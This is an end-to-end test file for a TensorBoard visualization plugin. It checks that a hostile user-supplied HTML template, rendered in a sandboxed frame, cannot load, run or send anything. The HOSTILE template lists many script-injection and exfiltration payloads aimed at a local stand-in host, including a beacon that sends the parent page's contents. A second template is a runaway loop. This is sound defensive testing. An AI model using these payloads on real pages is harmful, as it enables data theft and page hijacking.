"""Visualizations from a folder of the user's: chosen, drawn, with a page that can do no harm."""

import contextlib
import http.server
import pathlib
import threading
from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, FrameLocator, Page, Request, expect

from tests.e2e.conftest import SCREEN, complaints_of
from tests.e2e.tab import Tab
from tests.extensions.samples import METHOD, renamed
from tests.running import TensorBoard, running

PAGE = """<style>h1 { color: rgb(1, 2, 3) }</style>
<h1>{{ result.probe.name }}: {{ result.target.name }}</h1>
<p>{{ result.quantity }}, {{ result.map|length }} rows</p>
<img alt="overlay" src="{{ result.overlay_image }}">"""

# Everything that has ever made a page run, load or send something; FOREIGN is a server that listens, also for
# connections without a request: the name of a host that is looked up for one can carry something out.
HOSTILE = """<base href="FOREIGN/base/">
<meta http-equiv="refresh" content="0; url=FOREIGN/refresh">
<meta http-equiv="Content-Security-Policy" content="default-src * 'unsafe-inline'">
<link rel="stylesheet" href="FOREIGN/style"><link rel="icon" href="FOREIGN/icon">
<link rel="prefetch" href="FOREIGN/prefetch"><link rel="preload" as="image" href="FOREIGN/preload">
<link rel="prerender" href="FOREIGN/prerender"><link rel="modulepreload" href="FOREIGN/module">
<style>@import "FOREIGN/import"; @font-face { font-family: f; src: url(FOREIGN/font) }
  body { font-family: f; background: url(FOREIGN/background) }</style>
<script>top.document.title = document.title = "changed"; fetch("FOREIGN/fetch")</script>
<script src="FOREIGN/script"></script>
<script>new Image().src = "FOREIGN/beacon?" + parent.document.body.innerHTML</script>
<img src="FOREIGN/image?{{ result.probe.name }}" onerror="parent.document.body.remove()">
<img src="/data/plugin/picasso/api/runs" srcset="FOREIGN/srcset 2x">
<svg onload="top.location = 'FOREIGN/svg'"><image href="FOREIGN/svg-image"/></svg>
<body onload="parent.document.body.remove()">
<link rel="preconnect" href="FOREIGN"><link rel="dns-prefetch" href="FOREIGN">
<div><template shadowrootmode="open"><iframe src="FOREIGN/shadow"></iframe></template></div>
<svg><a xlink:href="FOREIGN/a"><text y="20">Drawn</text></a></svg>
<svg><a><set attributeName="href" to="FOREIGN/set"/><text y="20">Set</text></a></svg>
<iframe src="FOREIGN/frame"></iframe><iframe srcdoc="<script>top.document.body.remove()</script>"></iframe>
<object data="FOREIGN/object"></object><embed src="FOREIGN/embed">
<video src="FOREIGN/video" poster="FOREIGN/poster" autoplay></video>
<audio src="FOREIGN/audio" autoplay></audio>
<input autofocus onfocus="top.document.body.remove()">
<details open ontoggle="top.document.body.remove()">x</details>
<form action="FOREIGN/form" method="post"><button>Send</button></form>
<form action="/data/plugin/picasso/api/probes" method="post"><button>Post</button></form>
<p><a href="javascript:top.document.body.remove()">Script</a></p>
<p><a href="FOREIGN/top?{{ result.probe.name }}" target="_top">Top</a></p>
<p><a href="FOREIGN/blank" target="_blank">Blank</a></p>
<p><a href="FOREIGN/link?{{ result.probe.name }}">Link</a></p>
<p><a href="data:text/html,<iframe src=FOREIGN/data></iframe>">Data</a></p>
<h1>the end</h1>"""
# How the browser says that it has blocked something of the page.
BLOCKED = ("Content Security Policy", "CSP", "sandbox", "Blocked", "Refused", "X-Frame-Options")
BLOCKED_REQUEST = ("csp", "net::ERR_BLOCKED_BY_CSP", "net::ERR_BLOCKED_BY_CLIENT")
ENDLESS = "{% for a in range(99999) %}{% for b in range(99999) %}{% endfor %}{% endfor %}"


@pytest.fixture(scope="module")
def foreign() -> Iterator[tuple[str, list[str]]]:
    """A server on another port, and whoever connected to it or asked it for a path."""
    asked: list[str] = []

    class Listener(http.server.BaseHTTPRequestHandler):
        def setup(self) -> None:
            asked.append(f"connection from {self.client_address}")
            super().setup()

        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(200)
            self.end_headers()

        do_POST = do_GET  # noqa: N815  (the name is the library's)

        def log_message(self, format: str, *args: object) -> None:
            """Say nothing."""

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Listener)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}", asked
    server.shutdown()
    server.server_close()


@pytest.fixture(scope="module")
def tensorboard(
    foreign: tuple[str, list[str]], small_logdir: pathlib.Path, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[TensorBoard]:
    folder = tmp_path_factory.mktemp("methods")
    pages = {"brightness": PAGE, "hostile": HOSTILE.replace("FOREIGN", foreign[0]), "endless": ENDLESS}
    for name, template in pages.items():
        (folder / f"{name}.py").write_text(
            renamed(name, METHOD.replace('title="Brightness"', f'title="{name.capitalize()}"'))
        )
        (folder / f"{name}.html").write_text(template)
    (folder / "broken.py").write_text("import numpy\ndef broken(:\n")
    flag = f"--picasso_visualizations={folder}"
    with running(small_logdir, tmp_path_factory.mktemp("cache"), flag) as tensorboard:
        yield tensorboard


def link(visualization: str) -> str:
    return f"&p.picasso.view=inspect&p.picasso.run=run&p.picasso.visualization={visualization}"


def own_page(tab: Tab) -> FrameLocator:
    return tab.inside.frame_locator('iframe[title="Page of the visualization"]')


def test_one_with_a_page_of_its_own_is_chosen_set_and_shown(tensorboard, page):
    tab = Tab(page, tensorboard, link("occlusion"))
    tab.wait_for_progress_to_end()
    tab.choose_visualization("Brightness")
    inside = own_page(tab)
    expect(inside.get_by_text("brightness times 1, 12 rows")).to_be_visible(timeout=60_000)
    heading = inside.get_by_role("heading", name="picture 0: ")
    expect(heading).to_have_css("color", "rgb(1, 2, 3)")
    width = inside.get_by_alt_text("overlay").evaluate("image => image.naturalWidth")
    assert width == 20
    factor = tab.inside.get_by_role("spinbutton", name="Factor")
    factor.fill("4")
    factor.press("Enter")
    expect(inside.get_by_text("brightness times 4, 12 rows")).to_be_visible(timeout=60_000)
    tab.wait_for_progress_to_end()
    for known in ("1", "4"):
        factor.fill(known)
        factor.press("Enter")
        expect(inside.get_by_text(f"brightness times {known}, 12 rows")).to_be_visible()


def test_a_broken_file_is_listed_with_its_error_and_cannot_be_chosen(tensorboard, page):
    tab = Tab(page, tensorboard, link("occlusion"))
    tab.wait_for_progress_to_end()
    expect(tab.inside.get_by_text("broken.py, line 2: SyntaxError")).to_be_visible()
    expect(tab.inside.get_by_role("radio", name="broken.py")).to_be_disabled()


def test_a_page_without_end_is_an_error_at_its_maps(tensorboard, page):
    tab = Tab(page, tensorboard, link("endless"))
    expect(tab.inside.get_by_text("Filling endless.html took longer than 10 s").first).to_be_visible(
        timeout=120_000
    )
    tab.choose_visualization("Occlusion")
    tab.wait_for_progress_to_end()


@contextlib.contextmanager
def watched(browser: Browser, tensorboard: TensorBoard) -> Iterator[Page]:
    """A page that asks nobody but TensorBoard, and complains of nothing but what it blocked."""
    context = browser.new_context(viewport=SCREEN)
    page = context.new_page()
    complaints = complaints_of(page)
    # Chromium tells of a request before it looks whether it may be made: a blocked one fails with the reason.
    requests: dict[Request, str | None] = {}
    context.on("request", lambda request: requests.setdefault(request, "no answer"))
    context.on("requestfinished", lambda request: requests.update({request: None}))
    context.on("requestfailed", lambda request: requests.update({request: request.failure}))
    try:
        yield page
    finally:
        opened = len(context.pages)
        context.close()
    allowed = (tensorboard.url, "data:", "blob:", "about:")
    foreign = {one.url: why for one, why in requests.items() if not one.url.startswith(allowed)}
    assert not {url: why for url, why in foreign.items() if why not in BLOCKED_REQUEST}
    assert not [text for text in complaints if not any(word in text for word in BLOCKED)]
    assert complaints  # the browser did block something
    assert opened == 1


def test_a_hostile_page_runs_nothing_sends_nothing_and_changes_nothing(browser, tensorboard, foreign):
    asked = foreign[1]
    probes = tensorboard.run_index("run")[1]
    with watched(browser, tensorboard) as page:
        tab = Tab(page, tensorboard, link("hostile"))
        inside = own_page(tab)
        expect(inside.get_by_role("heading", name="the end")).to_be_visible(timeout=60_000)
        tab.wait_for_progress_to_end()
        assert asked == []
        title, address = page.title(), page.url.partition("#")[0]
        for name in ("Send", "Post", "Script", "Top", "Blank", "Drawn", "Set", "Link", "Data"):
            inside.get_by_text(name, exact=True).click()
        page.wait_for_timeout(1_000)  # whatever it set off would have come by now
        expect(inside.get_by_role("heading", name="the end")).to_be_visible()
        assert (page.title(), page.url.partition("#")[0]) == (title, address)
        assert title != "changed"
        expect(tab.inside.get_by_role("radio", name="Hostile")).to_be_checked()
    assert asked == []
    assert tensorboard.run_index("run")[1] == probes
